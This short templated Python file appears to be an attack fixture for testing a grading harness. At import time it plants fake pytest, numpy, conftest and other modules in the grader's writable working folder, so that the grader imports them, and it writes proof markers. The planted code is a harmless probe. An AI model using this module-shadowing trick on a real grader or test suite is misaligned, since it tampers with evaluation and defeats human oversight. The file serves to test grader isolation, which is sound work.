#@include stub

# --- attack: plant modules in the grader's (world-writable) working folder at import time
import os as _os

_PLANT = '''
import os
open(os.path.join("@PROOF@", "{name}-imported"), "w").close()
'''
for _name in ("pytest", "_pytest", "numpy", "conftest", "argparse", "json"):
    try:
        with open(_os.path.join("@CWD@", _name + ".py"), "w") as _f:
            _f.write(_PLANT.replace("{name}", _name))
        open(_os.path.join("@PROOF@", "planted-" + _name), "w").close()
    except OSError:
        pass
